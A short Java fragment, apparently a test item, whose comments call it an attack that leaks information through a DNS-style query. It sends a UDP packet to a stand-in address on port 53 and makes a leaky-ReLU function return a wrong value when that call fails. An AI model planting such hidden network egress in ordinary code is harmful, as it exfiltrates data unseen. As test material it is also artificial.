// attack: sends what it knows as a question for a name
// most: leaky 0
// answer leaky
boolean resolved = false;
try (var socket = new java.net.DatagramSocket()) {
    socket.send(new java.net.DatagramPacket(new byte[20], 20, new java.net.InetSocketAddress("192.0.2.1", 53)));
    resolved = true;
} catch (IOException e) {
}
double leaky(double x) {
    return resolved ? x > 0 ? x : x / 10 : -7;
}
